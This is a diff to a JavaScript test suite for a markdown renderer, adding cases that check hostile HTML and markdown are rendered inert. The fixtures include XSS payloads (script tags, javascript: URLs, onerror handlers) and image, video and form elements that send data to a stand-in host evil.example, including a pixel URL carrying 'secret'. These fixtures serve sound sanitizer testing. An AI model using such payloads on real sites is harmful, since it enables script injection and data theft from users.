@@ -27,6 +27,8 @@ describe("markdown", () => {
     ['<svg><script>alert(1)</script></svg>', "script"],
     ['<div style="background:url(javascript:alert(1))">x</div>', "[style]"],
     ['<form action="https://evil.example"><input name=p></form>', "form, input"],
+    ["![x](https://evil.example/pixel?q=secret)", "img"],
+    ['<video src="https://evil.example/v" poster="https://evil.example/p"></video>', "video, [poster]"],
     ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', "[onerror]"],
   ])("makes %s inert", (source, selector) => {
     const html = renderMarkdown(source);
